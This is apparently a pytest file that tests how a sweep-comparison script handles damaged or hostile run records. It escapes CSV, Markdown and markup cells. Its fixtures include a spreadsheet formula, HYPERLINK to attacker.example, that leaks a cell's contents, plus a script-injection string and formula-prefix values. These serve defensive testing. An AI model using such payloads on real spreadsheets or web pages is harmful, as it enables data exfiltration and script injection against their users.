"""scripts/compare.py on sweep dirs whose records are damaged or hostile: it reports what it can read, names each
file or field it cannot in one line, and escapes every cell it writes (CSV formulas, Markdown tables, rich markup,
matplotlib's math text)."""

from __future__ import annotations

import csv
import json
import re
import shutil

import pytest
from PIL import Image
from test_compare import write_job

from attention_lab.review.compare import write_reports
from attention_lab.review.sweep import collect_sweep
from conftest import ROOT, run_in_process

COMPARE = ROOT / "scripts" / "compare.py"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def two_jobs(sweep, metrics0: str, metrics1: str | None = None):
    """Two ok jobs whose metrics.json hold the given JSON text, as written (NaN and Infinity are Python's JSON)."""
    for job, text in enumerate((metrics0, metrics1 or '{"val/seq_acc": 0.5, "val/loss": 0.7, "global_step": 60, '
                                                      '"params": 1234}')):
        write_job(sweep, job, ["max_steps=60", f"heads={job + 1}"], run_info={"status": "ok", "wall_time_s": 2.0})
        (sweep / str(job) / "metrics.json").write_text(text)


def compare(sweep, *args):
    proc = run_in_process(COMPARE, str(sweep), *args)
    assert proc.returncode == 0 and "Traceback" not in proc.stdout + proc.stderr, proc.stderr[-3000:]
    assert sorted(p.name for p in sweep.glob("compare.*")) == ["compare.csv", "compare.md", "compare.png"]
    with Image.open(sweep / "compare.png") as image:
        assert image.size[0] > 400
    with (sweep / "compare.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    warnings = [line for line in proc.stderr.splitlines() if line.strip()]
    assert all(line.startswith("warning: ") for line in warnings), proc.stderr
    return proc, rows, warnings


def test_nan_and_infinite_metrics_are_shown_and_never_best(tmp_path):
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": NaN, "val/loss": Infinity, "global_step": 60, "params": 1234}')
    write_job(sweep, 2, ["max_steps=60", "heads=3"], run_info={"status": "ok"}, metrics=None)
    (sweep / "2" / "metrics.json").write_text('{"val/seq_acc": Infinity, "val/loss": -Infinity, "global_step": 60}')
    proc, rows, warnings = compare(sweep)
    assert warnings == []  # NaN and infinities are values the lab can write: shown, not unreadable
    assert [(r["val/seq_acc"], r["val/loss"], r["best"]) for r in rows] == [
        ("nan", "inf", "False"), ("0.5", "0.7", "False"), ("inf", "-inf", "False")]  # one seed: no best
    markdown = (sweep / "compare.md").read_text()
    assert "| 0 | `heads=1` | ok | nan | inf |" in markdown and "| 1 | `heads=2` | ok | 0.5000 |" in markdown
    assert "| 2 | `heads=3` | ok | inf | -inf |" in markdown


def test_a_job_dir_named_with_another_scripts_digit_is_reviewed_as_any_dir(tmp_path):
    """"²" passes str.isdigit but int() refuses it: a sweep dir holding such a dir ended the review in a traceback."""
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": 1234}')
    shutil.copytree(sweep / "0", sweep / "²")
    _, rows, warnings = compare(sweep)
    assert warnings == [] and [r["val/seq_acc"] for r in rows] == ["0.25", "0.5", "0.25"]


def test_infinite_params_is_marked_unreadable(tmp_path):
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": Infinity}')
    proc, rows, warnings = compare(sweep)
    assert len(warnings) == 1 and "0/metrics.json" in warnings[0] and "params" in warnings[0], warnings
    assert [(r["val/seq_acc"], r["params"]) for r in rows] == [("0.25", ""), ("0.5", "1234")]
    assert "unreadable" in rows[0]["error"] and "metrics.json" in rows[0]["error"]


@pytest.mark.parametrize("summary", ['{"jobs": 5}', '{"jobs": [5, {"job": [1], "metrics": 3, "output_dir": 7}]}',
                                     '[1, 2]', '{"jobs": ', '\xff\xfe'])
def test_a_damaged_sweep_summary_is_named_and_the_jobs_still_reported(tmp_path, summary):
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": 99}')
    (sweep / "sweep_summary.json").write_bytes(summary.encode("latin-1"))
    proc, rows, warnings = compare(sweep)
    assert warnings and all("sweep_summary.json" in line for line in warnings), warnings
    assert [(r["job"], r["status"], r["val/seq_acc"]) for r in rows] == [("0", "ok", "0.25"), ("1", "ok", "0.5")]


# A file of the sweep, what it holds, and the file the warning names.
DAMAGED = [
    ("1/run_info.json", "[]", "1/run_info.json"),
    ("1/run_info.json", '{"status": 5, "error": 7, "wall_time_s": "soon", "pid": 1e400, "host": 3}', "1/run_info.json"),
    ("1/run_info.json", '{"status": "running", "pid": 99999999999999999999, "host": "HOST"}', "1/run_info.json"),
    ("1/metrics.json", '"text"', "1/metrics.json"),
    ("1/metrics.json", '{"val/seq_acc": "high", "global_step": "x", "steps_to_solve": [3], "params": -1}',
     "1/metrics.json"),
    ("1/.hydra/overrides.yaml", "a: 1\n", "1/.hydra/overrides.yaml"),
    ("1/.hydra/overrides.yaml", "- [unclosed\n", "1/.hydra/overrides.yaml"),
    ("1/.hydra/config.yaml", "optimized_metric: [1]\n", "1/.hydra/config.yaml"),
    ("1/.hydra/config.yaml", "- 1\n", "1/.hydra/config.yaml"),
    ("multirun.yaml", "hydra: 5\n", "multirun.yaml"),
    ("multirun.yaml", "hydra:\n  overrides: [1]\n  sweeper: {direction: [[1]]}\n", "multirun.yaml"),
    ("multirun.yaml", "hydra: {overrides: {task: {a: 1}}}\n", "multirun.yaml"),
    ("multirun.yaml", "key: [unclosed\n", "multirun.yaml"),
]


@pytest.mark.parametrize(("name", "text", "named"), DAMAGED)
def test_each_unreadable_record_is_one_warning(tmp_path, name, text, named):
    import socket

    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": 99}')
    (sweep / name).write_text(text.replace("HOST", socket.gethostname()))
    result = collect_sweep(sweep)
    assert result.problems and all(line.startswith(named + ": ") for line in result.problems), result.problems
    assert len(result.jobs) == 2 and result.jobs[0].metrics == {"val/seq_acc": 0.25}
    paths = write_reports(result, tmp_path)
    assert all(path.stat().st_size > 0 for path in paths.values())
    assert "Unreadable" in paths["markdown"].read_text()


DEEP = "[" * 20_000 + "]" * 20_000
OUT_OF_BOUNDS = {  # a file of the sweep, what it holds (made when the test runs), and the problem named
    "deep_run_info": ("1/run_info.json", lambda: f'{{"status": "ok", "error": {DEEP}}}', "nested deeper than 100 levels"),
    "deep_metrics": ("1/metrics.json", lambda: f'{{"val/seq_acc": {DEEP}}}', "nested deeper than 100 levels"),
    # Valid JSON, but larger than any metrics.json the lab writes: 65 MiB of padding.
    "huge_metrics": ("1/metrics.json", lambda: '{"val/seq_acc": 0.5, "pad": "' + "x" * (65 << 20) + '"}',
                     "larger than 64 MiB, the most the lab reads of metrics.json"),
}


@pytest.mark.parametrize(("name", "text", "problem"), OUT_OF_BOUNDS.values(), ids=OUT_OF_BOUNDS.keys())
def test_a_record_out_of_bounds_is_one_warning(tmp_path, name, text, problem):
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": 99}')
    (sweep / name).write_text(text())
    result = collect_sweep(sweep)
    assert result.problems == [f"{name}: {problem}; ignored"]
    assert result.jobs[0].metrics == {"val/seq_acc": 0.25}
    assert result.jobs[1].metrics == ({} if name.endswith("metrics.json") else {"val/seq_acc": 0.5, "val/loss": 0.7})
    assert "Unreadable" in write_reports(result, tmp_path)["markdown"].read_text()


def test_the_script_prints_each_unreadable_record_once(tmp_path):
    sweep = tmp_path / "sweep"
    two_jobs(sweep, '{"val/seq_acc": 0.25, "global_step": 60, "params": 99}', '{"val/seq_acc": ')
    (sweep / "sweep_summary.json").write_text('{"jobs": 5}')
    proc, rows, warnings = compare(sweep)
    assert len(warnings) == 2, warnings
    assert any(line.startswith("warning: 1/metrics.json: not valid JSON") for line in warnings), warnings
    assert any(line.startswith("warning: sweep_summary.json: jobs is 5") for line in warnings), warnings
    assert [r["status"] for r in rows] == ["ok", "ok"] and "unreadable" in rows[1]["error"]


HOSTILE_ERROR = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
HOSTILE_METRIC = "val/a|b<script>alert(1)</script>"


def test_cells_are_escaped_for_each_format(tmp_path):
    sweep = tmp_path / "sweep"
    metrics = {"val/seq_acc": 0.5, "val/loss": -0.25, HOSTILE_METRIC: 1.0, "global_step": 60, "params": 10}
    write_job(sweep, 0, ["max_steps=60", "x=`a`|<b>&", "y=$\\frac{$"], run_info={"status": "ok"}, metrics=metrics)
    errors = [HOSTILE_ERROR, "+1+2", "-2+3", "@SUM(A1:A9)", "[/bold] closes nothing [link=x]"]
    for job, error in enumerate(errors, start=1):
        write_job(sweep, job, ["max_steps=60", f"heads={job}"], run_info={"status": "failed", "error": error})
    # Overrides that start with a tab or a carriage return (JSON is YAML: the characters are kept).
    write_job(sweep, 6, [], run_info={"status": "failed", "error": "x"})
    (sweep / "6" / ".hydra" / "overrides.yaml").write_text(json.dumps(["max_steps=60", "\t=1+2", "\r=3"]))
    proc, rows, warnings = compare(sweep, "--metric", "val/loss")
    assert warnings == []

    with (sweep / "compare.csv").open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    numbers = {"-0.25"}  # a negative number stays a number
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or cell in numbers, repr(cell)
    assert "'" + HOSTILE_ERROR in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
    assert "'\t=1+2 \r=3" in cells
    assert rows[0]["val/loss"] == "-0.25" and float(rows[0][HOSTILE_METRIC]) == 1.0

    markdown = (sweep / "compare.md").read_text()
    assert "<script>" not in markdown and "<b>" not in markdown and "&lt;script&gt;" in markdown
    table = [line for line in markdown.splitlines() if line.startswith("|")]
    assert len(table) == 9
    columns = {len(re.split(r"(?<!\\)\|", line)) for line in table}
    assert len(columns) == 1, table  # no cell adds a column: every | inside a cell is escaped
    assert "\t" not in markdown and "\r" not in markdown
    assert "[/bold]" in proc.stdout  # rich printed the text, not its markup
